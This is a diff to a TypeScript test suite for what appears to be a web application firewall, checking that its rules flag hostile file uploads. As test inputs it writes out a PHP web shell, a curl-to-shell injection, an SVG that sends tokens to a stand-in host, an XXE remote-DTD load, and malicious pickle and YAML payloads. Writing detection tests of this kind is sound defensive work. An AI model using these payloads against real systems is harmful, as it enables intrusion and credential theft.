@@ -36,6 +36,18 @@ const uploadWith = (disposition: string): string[] =>
     }),
   );
 
+/** Where the rules fire for one file `filename` of type `type` uploaded as the field `file`. */
+const upload = (filename: string, type: string, content: string): string[] =>
+  where(
+    req({
+      method: "POST",
+      body: body(
+        "multipart/form-data; boundary=XB",
+        `--XB\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--XB--\r\n`,
+      ),
+    }),
+  );
+
 describe("locations", () => {
   it("names query values, query names, cookies, headers and the path", () => {
     const r = engine.inspect(
@@ -131,16 +143,6 @@ describe("bodies", () => {
   });
 
   it("reads an upload's content when it is markup, a spreadsheet, an image holding a script, or server-side code", () => {
-    const upload = (filename: string, type: string, content: string) =>
-      where(
-        req({
-          method: "POST",
-          body: body(
-            "multipart/form-data; boundary=XB",
-            `--XB\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--XB--\r\n`,
-          ),
-        }),
-      );
     expect(upload("avatar.jpg", "image/jpeg", "<?php system($_GET['c']); ?>")).toContain(
       "933100@body:multipart.file.content",
     );
@@ -178,6 +180,53 @@ describe("bodies", () => {
         "push graphic-context\r\nviewbox 0 0 640 480\r\nfill 'url(https://example.com/i.jpg\"|curl http://203.0.113.5/x|sh\")'\r\npop graphic-context",
       ),
     ).toContain("932100@body:multipart.file.content.arg");
+  });
+
+  it("reads the formats that act when loaded, in uploads and in binary-declared bodies", () => {
+    const raw = (type: string, content: string) => where(req({ method: "POST", body: body(type, content) }));
+    // An SVG's script is in its handlers and script elements, whatever the code says.
+    const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('/api/tokens').then(r=>r.text()).then(t=>navigator.sendBeacon('//x.example',t))"/>`;
+    expect(upload("logo.svg", "image/svg+xml", svg)).toContain("941110@body:xml.file.content.svg@onload");
+    expect(raw("image/svg+xml", '<svg><script>fetch("/x")</script></svg>')).toContain("941100@body:xml.svg.script");
+    // XML declared binary (a NuGet package's .nuspec) is still XML to the server that unpacks it.
+    const xxe = '<?xml version="1.0"?>\n<!DOCTYPE p [<!ENTITY % d SYSTEM "http://x.example/e.dtd"> %d;]>\n<p/>';
+    expect(upload("a.nuspec", "application/octet-stream", xxe)).toContain("941180@body:xml.file.content.!doctype");
+    expect(raw("application/octet-stream", xxe)).toContain("941180@body:xml.!doctype");
+    // A pickle's imports, in any protocol, raw or uploaded.
+    const p4 =
+      "\u0080\u0004\u0095\u001d\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u008c\u0005posix\u0094\u008c\u0006system\u0094\u0093\u0094\u008c\u0002id\u0094\u0085\u0094R\u0094.";
+    expect(raw("application/vnd.bentoml+pickle", p4)).toContain("934155@body:raw.pickle");
+    expect(raw("application/octet-stream", "cposix\nsystem\np0\n(Vid\np1\ntp2\nRp3\n.")).toContain(
+      "934155@body:raw.pickle",
+    );
+    expect(upload("model.pkl", "application/octet-stream", p4)).toContain("934155@body:multipart.file.content.pickle");
+    // A YAML file's language tags, not its shell steps.
+    expect(
+      upload("MLmodel", "application/x-yaml", 'flavors:\n  custom: !!python/object/apply:os.system ["id"]\n'),
+    ).toContain("934155@body:multipart.file.content.tag");
+    // Honest ones: a model that imports numpy and collections, mkdocs naming a function, a CI file's
+    // steps, a Liquibase changelog's handler attributes, an image.
+    const model =
+      "\u0080\u0004\u0095)\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u008c\u000bcollections\u0094\u008c\u000bOrderedDict\u0094\u0093\u0094)R\u0094\u008c\u0001a\u0094K\u0001s.";
+    expect(upload("model.pkl", "application/octet-stream", model)).toEqual([]);
+    expect(
+      upload(
+        "mkdocs.yml",
+        "application/x-yaml",
+        "markdown_extensions:\n  - pymdownx.emoji:\n      emoji_index: !!python/name:material.extensions.emoji.twemoji\n",
+      ),
+    ).toEqual([]);
+    expect(
+      upload("pipeline.yml", "application/x-yaml", "test:\n  script:\n    - curl -sSL https://x.example/i.sh | sh\n"),
+    ).toEqual([]);
+    expect(
+      upload(
+        "changelog.xml",
+        "application/octet-stream",
+        '<?xml version="1.0"?><databaseChangeLog><preConditions onFail="MARK_RAN" onError="HALT"/></databaseChangeLog>',
+      ),
+    ).toEqual([]);
+    expect(raw("image/png", "\u0089PNG\r\n\u001a\n binary cposix")).toEqual([]);
   });
 
   it("scans a GraphQL document's string arguments as values of their own", () => {
